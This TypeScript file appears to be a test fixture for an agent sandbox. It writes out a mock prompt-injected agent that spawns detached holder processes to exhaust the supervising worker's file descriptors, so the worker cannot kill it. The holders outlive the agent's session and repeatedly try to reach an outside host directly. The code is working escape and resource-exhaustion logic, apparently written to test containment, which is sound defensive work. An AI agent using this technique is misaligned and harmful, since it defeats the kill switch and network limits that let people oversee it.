import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/**
 * An agent that keeps the worker from killing it, then waits for its network to open (AGENT_COMMAND,
 * standing in for a prompt-injected Claude Code). It starts holders, processes of its own in
 * sessions of their own, which open connections to the worker's egress proxy and keep them until
 * the worker has no file descriptor left: then the worker's key proxy, in the same process, drops
 * a new connection unanswered (libuv accepts and closes what it cannot keep). A worker without
 * descriptors cannot start the command that kills the agent's processes.
 *
 * The agent ends once the worker is out of descriptors; the holders stay, and the last tries the
 * outside host (SURVIVOR_OUTSIDE, port 80, path /survivor) directly, over and over, writing each
 * result as a line of SURVIVOR_LOG, until SURVIVOR_STOP exists or it has tried 2,000 times.
 */
const HOLDER = String.raw`
const fs = require('node:fs');
const net = require('node:net');
const http = require('node:http');
const env = process.env;
const proxy = new URL(env.HTTPS_PROXY);
const key = new URL(env.ANTHROPIC_BASE_URL);
const held = [];
// Descriptors of its own kept in reserve, given back to say what it found and to go on from there.
const reserve = Array.from({ length: 8 }, () => fs.openSync('/dev/null', 'r'));
const say = (state) => {
  for (const fd of reserve.splice(0)) fs.closeSync(fd);
  // Whole or not at all: the agent reads it as soon as it is there.
  fs.writeFileSync(env.HOLDER_STATE + '.part', state);
  fs.renameSync(env.HOLDER_STATE + '.part', env.HOLDER_STATE);
};

// A worker that stops accepting leaves a connection waiting in its backlog: that is full too.
const within = (ms, promise, late) =>
  Promise.race([promise, new Promise((r) => setTimeout(() => r(late), ms).unref())]);
const hold = () => within(2000, new Promise((resolve) => {
  const socket = net.connect({ host: proxy.hostname, port: Number(proxy.port) });
  socket.once('connect', () => { held.push(socket); resolve('held'); });
  socket.once('error', (e) => resolve(e.code));
}), 'stuck');
// A request without credentials: the key proxy answers 401 while it can take the connection.
const answered = () => within(2000, new Promise((resolve) => {
  http.get({ host: key.hostname, port: key.port, path: '/', agent: false }, (res) => {
    res.resume();
    resolve(true);
  }).on('error', () => resolve(false));
}), false);
const tryOutside = () => new Promise((resolve) => {
  http.get({ host: env.SURVIVOR_OUTSIDE, port: 80, path: '/survivor', agent: false }, (res) => {
    res.resume();
    resolve('reached ' + res.statusCode);
  }).on('error', (e) => resolve(e.code));
});

(async () => {
  for (;;) {
    const result = await hold();
    if (result === 'EMFILE') return say('full');
    if (result === 'stuck') break;
    if (result !== 'held') return say('failed ' + result);
    if (held.length % 8 === 0 && !(await answered())) break;
  }
  say('exhausted');
  for (let i = 0; i < 2000 && !fs.existsSync(env.SURVIVOR_STOP); i++) {
    fs.appendFileSync(env.SURVIVOR_LOG, (await tryOutside()) + '\n');
    await new Promise((r) => setTimeout(r, 20));
  }
  process.exit(0);
})();
`;

const AGENT = String.raw`
const fs = require('node:fs');
const path = require('node:path');
const { spawn } = require('node:child_process');
const dir = fs.mkdtempSync(path.join(require('node:os').tmpdir(), 'survivor-'));
const holder = path.join(dir, 'holder.cjs');
fs.writeFileSync(holder, process.env.HOLDER_SCRIPT);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

console.log('survivor-agent: uid ' + process.getuid());
(async () => {
  // A holder has as few descriptors as the worker: start another while each fills up.
  for (let n = 0; n < 8; n++) {
    const state = path.join(dir, 'state-' + n);
    spawn(process.execPath, [holder], {
      detached: true,
      stdio: 'ignore',
      env: { ...process.env, HOLDER_STATE: state },
    }).unref();
    while (!fs.existsSync(state)) await sleep(20);
    const said = fs.readFileSync(state, 'utf8');
    console.log('survivor-agent: holder ' + n + ' ' + said);
    if (said !== 'full') break;
  }
  console.log(JSON.stringify({ type: 'result', subtype: 'success', is_error: false, result: 'Held on.', total_cost_usd: 0, usage: { input_tokens: 0, output_tokens: 0 } }));
})();
`;

/** Writes the agent into `dir` (which the agent's user may pass through); its AGENT_COMMAND. */
export function writeSurvivorAgent(dir: string): { command: string; env: Record<string, string> } {
  const file = join(dir, 'survivor-agent.cjs');
  writeFileSync(file, AGENT, { mode: 0o644 });
  return { command: `"${process.execPath}" "${file}"`, env: { HOLDER_SCRIPT: HOLDER } };
}
